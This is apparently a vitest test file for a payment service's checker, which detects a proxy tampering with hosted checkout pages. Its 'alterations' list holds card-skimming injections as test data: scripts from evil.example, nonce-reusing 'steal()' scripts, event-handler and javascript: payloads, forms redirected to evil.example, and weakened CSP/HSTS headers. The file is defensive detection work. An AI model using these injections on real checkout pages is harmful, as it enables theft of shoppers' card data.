import { readFile } from "node:fs/promises";
import path from "node:path";
import { expect, test } from "vitest";
import { GET as orderScript } from "#app/(hosted)/checkout/order.js/route.ts";
import { GET as proofScript } from "#app/(hosted)/checkout/proof.js/route.ts";
import { GET as showCheckout } from "#app/(hosted)/checkout/route.tsx";
import { GET as embed } from "#app/(hosted)/embed.js/route.ts";
import { checkPages, checkPagesJob } from "#server/checkout/integrity/check-pages.ts";
import { dayMs, hourMs, minuteMs, secondMs } from "#server/core/clock.ts";
import type { Services } from "#server/core/context.ts";
import { holdDecline } from "#server/payments/charge/limits.ts";
import { stripeLibraryUrl } from "#server/wire/atoms/checkout/stripe-library.ts";
import { testClock } from "#server/workshop/testing/clock.ts";
import { newMerchant } from "#server/workshop/testing/payments/payments.ts";
import { linkOf } from "#server/workshop/testing/payments/shopper.ts";
import { servicesOn, testServices } from "#server/workshop/testing/test-services.ts";

const clock = testClock();
const services = await testServices({ clock });
(globalThis as { canaryServices?: Services }).canaryServices = services;
const link = await linkOf(await newMerchant(services), {
  hostedCheckoutConfig: { embedOrigin: "https://shop.example", submitLabel: 'x <script> onload="' },
});
const hsts = "max-age=63072000";

const scripts: Record<string, () => Response> = {
  "/embed.js": embed,
  "/checkout/proof.js": proofScript,
  "/checkout/order.js": orderScript,
};

const pageOf = (id: string) =>
  `https://pay.example/checkout?entityType=payment-link&entityId=${id}`;

type Altered = { html?: (html: string) => string; headers?: (headers: Headers) => void };

/** The service behind a proxy that ends TLS, and may do more. */
function proxy({ html = (text) => text, headers = () => {} }: Altered = {}) {
  return async (url: string, init: RequestInit): Promise<Response> => {
    const request = new Request(url, { headers: init.headers as HeadersInit });
    const { pathname } = new URL(url);
    const answer = scripts[pathname]?.() ?? (await showCheckout(request));
    const sent = new Headers(answer.headers);
    sent.set("strict-transport-security", hsts);
    headers(sent);
    return new Response(html(await answer.text()), { status: answer.status, headers: sent });
  };
}

async function problemsOf(altered: Altered): Promise<string[]> {
  clock.advance(secondMs);
  const done = await checkPages(services, proxy(altered));
  return "unanswered" in done ? [done.unanswered] : done.problems;
}

test("the page as this service sends it passes: one that takes cards, one that leads nowhere, embed.js", async () => {
  const done = await checkPages(services, proxy());
  expect(done).toMatchObject({ passed: true, problems: [] });
  expect((done as { pages: string[] }).pages).toEqual([
    `/checkout?entityType=payment-link&entityId=${link.id}`,
    "/checkout?entityType=payment-link&entityId=none",
    "/checkout/proof.js",
    "/checkout/order.js",
    "/embed.js",
  ]);
});

test("while cards are tried out the page may load one script more, from its own address only", async () => {
  clock.advance(secondMs);
  const other = await linkOf(await newMerchant(services), {
    hostedCheckoutConfig: { embedOrigin: "https://shop.example" },
  });
  const { merchantId } = await services.db.paymentLink.findFirstOrThrow({
    where: { id: other.id },
  });
  const place = { merchantId, paymentLinkId: other.id, paymentIntentId: "pi_1" };
  for (let n = 0; n < 15; n += 1)
    await (
      await holdDecline(services, { place, source: {}, ip: null })
    )("declined");
  const html = await (await proxy()(pageOf(other.id), {})).text();
  expect(html).toMatch(/<script nonce="[^"]+" src="\/checkout\/proof\.js" defer="">/);
  expect(html).toContain("without-script");
  expect(await problemsOf({})).toEqual([]);
  const elsewhere = (page: string) => page.replace("/checkout/proof.js", "/evil/proof.js");
  expect((await problemsOf({ html: elsewhere })).join()).toContain("from /evil/proof.js");
});

test("the page with the processor's own fields passes too, under a policy that names the processor", async () => {
  const stripe = { PROCESSOR: "stripe", STRIPE_SECRET_KEY: "sk_test_1" };
  const keys = { STRIPE_PUBLISHABLE_KEY: "pk_test_1", STRIPE_WEBHOOK_SECRET: "whsec_1" };
  const live = servicesOn(services.env.DATABASE_URL ?? "", { clock, env: { ...stripe, ...keys } });
  const shared = globalThis as { canaryServices?: Services };
  shared.canaryServices = live;
  try {
    expect(await checkPages(live, proxy())).toMatchObject({ passed: true });
    const policies: (string | null)[] = [];
    const headers = (sent: Headers) => void policies.push(sent.get("content-security-policy"));
    await checkPages(live, proxy({ headers }));
    expect(policies[0]).toContain("https://js.stripe.com");
    const theirs = beforeEnd(`<script src="${stripeLibraryUrl}"></script>`);
    expect(await checkPages(live, proxy(theirs)), "the page loads it by itself").toMatchObject({
      passed: false,
    });
  } finally {
    shared.canaryServices = services;
    await live.db.$disconnect();
  }
});

const beforeEnd = (added: string) => ({
  html: (html: string) => html.replace("</body>", `${added}</body>`),
});
/** The changes that a proxy could make to catch cards. It can read the nonce, as anybody can. */
const alterations: [string, Altered, RegExp][] = [
  [
    "a script of another address",
    beforeEnd('<script src="https://evil.example/x.js?card=1"></script>'),
    /a script that is not in the inventory from https:\/\/evil\.example\/x\.js \(/,
  ],
  [
    "a script under the page's own nonce",
    {
      html: (html) =>
        html.replace(/<script nonce="([^"]+)">/, '<script nonce="$1">steal()</script>$&'),
    },
    /not in the inventory \(7 characters/,
  ],
  [
    "more in the page's own script",
    { html: (html) => html.replace("</script>", ";steal()</script>") },
    /not in the inventory/,
  ],
  ["no script any more", { html: (html) => html.replace(/<script.*<\/script>/s, "") }, /not there/],
  ["a script without an end", beforeEnd("<SCRIPT src=//evil.example/x.js>"), /does not end/],
  ["a style without an end", beforeEnd("<style>"), /a style that does not end/],
  ["a frame over the page", beforeEnd('<iframe src="https://evil.example">'), /element iframe/],
  ["an event handler", beforeEnd("<img src=x onerror=steal()>"), /event handler on img/],
  [
    "an event handler after a quote",
    beforeEnd('<svg class="a"onload="steal()">'),
    /event handler on svg/,
  ],
  [
    "an address that runs",
    beforeEnd('<a href="javascript:steal()">Pay</a>'),
    /a a that sends elsewhere/,
  ],
  [
    "the form sent elsewhere",
    { html: (html) => html.replace(/action="[^"]*"/, 'action="https://evil.example/"') },
    /form that sends elsewhere/,
  ],
  [
    "a button that sends the form elsewhere",
    beforeEnd('<button form="pay" formaction="//evil.example/">'),
    /button that sends elsewhere/,
  ],
  ["another base", beforeEnd('<base href="https://evil.example/">'), /element base/],
  [
    "another page after a moment",
    beforeEnd('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    /http-equiv/,
  ],
  ["a link that loads", beforeEnd('<link rel="modulepreload" href="/x.js">'), /link that loads/],
  [
    "no policy",
    { headers: (headers) => headers.delete("content-security-policy") },
    /Content-Security-Policy is missing/,
  ],
  [
    "a policy that allows more",
    {
      headers: (headers) => {
        const policy = headers.get("content-security-policy") ?? "";
        headers.set("content-security-policy", policy.replace("script-src", "script-src *"));
      },
    },
    /Content-Security-Policy is another one/,
  ],
  [
    "framed by anybody",
    {
      headers: (headers) => {
        const policy = headers.get("content-security-policy") ?? "";
        headers.set("content-security-policy", policy.replace("https://shop.example", "*"));
      },
    },
    /Content-Security-Policy is another one/,
  ],
  [
    "reports of browsers led away",
    { headers: (headers) => headers.set("reporting-endpoints", 'pages="https://evil.example"') },
    /Reporting-Endpoints is another one/,
  ],
  [
    "a shorter memory of https",
    { headers: (headers) => headers.set("strict-transport-security", "max-age=60") },
    /Strict-Transport-Security is weaker/,
  ],
];

test.each(alterations)("a proxy is noticed that brings %s", async (_, altered, said) => {
  const problems = await problemsOf(altered);
  expect(problems.join("\n")).toMatch(said);
  expect(problems.join("\n")).not.toContain("card=1");
});

test("embed.js and proof.js are compared too", async () => {
  const problems = await problemsOf({ html: (text) => `${text};steal()` });
  expect(problems.some((one) => one.startsWith("/embed.js: another script"))).toBe(true);
});

test("a proxy may say more of https, add headers of its own, and send more compactly", async () => {
  const headers = (sent: Headers) => {
    sent.set("strict-transport-security", `${hsts}; includeSubDomains; preload`);
    sent.set("via", "1.1 edge");
    sent.set("server", "edge");
  };
  expect(await problemsOf({ headers })).toEqual([]);
});

test("the operator gets one letter for what differs, again when it is something else", async () => {
  const mailbox = path.join(services.env.DATA_DIR, "operator-mailbox.txt");
  const letters = async () =>
    (await readFile(mailbox, "utf8")).match(/Subject: The hosted page is not/g)?.length ?? 0;
  const frame = beforeEnd("<iframe>");
  await problemsOf({});
  const before = await letters();
  await problemsOf(frame);
  await problemsOf(frame);
  expect(await letters()).toBe(before + 1);
  await problemsOf(beforeEnd("<object>"));
  expect(await letters()).toBe(before + 2);
  await problemsOf({});
  await problemsOf(beforeEnd("<object>"));
  expect(await letters(), "it was gone in between").toBe(before + 3);
});

test("the worker looks once a day, every hour while it differs, by one of its processes", async () => {
  let asked = 0;
  let altered: Altered = {};
  const fetchPage = (url: string, init: RequestInit) => {
    if (url.endsWith("/embed.js")) asked += 1;
    return proxy(altered)(url, init);
  };
  const jobs = [checkPagesJob(fetchPage), checkPagesJob(fetchPage)];
  const runAll = async () => {
    for (const job of jobs) await job.run(services);
    return asked;
  };
  clock.advance(2 * dayMs);
  expect(await runAll(), "not as soon as a process starts").toBe(0);
  expect(await runAll()).toBe(1);
  clock.advance(hourMs);
  expect(await runAll()).toBe(1);
  clock.advance(dayMs);
  altered = beforeEnd("<iframe>");
  expect(await runAll()).toBe(2);
  clock.advance(30 * minuteMs);
  expect(await runAll()).toBe(2);
  clock.advance(30 * minuteMs);
  altered = {};
  expect(await runAll()).toBe(3);
  clock.advance(2 * hourMs);
  expect(await runAll()).toBe(3);
});

test("a page that does not answer is no difference, and is asked for again", async () => {
  const before = await services.db.pageCheck.count();
  const down = async () => new Response("Bad gateway", { status: 502 });
  expect(await checkPages(services, down)).toMatchObject({
    unanswered: expect.stringContaining("502"),
  });
  const away = () => Promise.reject(new TypeError("fetch failed", { cause: new Error("refused") }));
  expect(await checkPages(services, away)).toEqual({ unanswered: "fetch failed: refused" });
  expect(await services.db.pageCheck.count()).toBe(before);
});
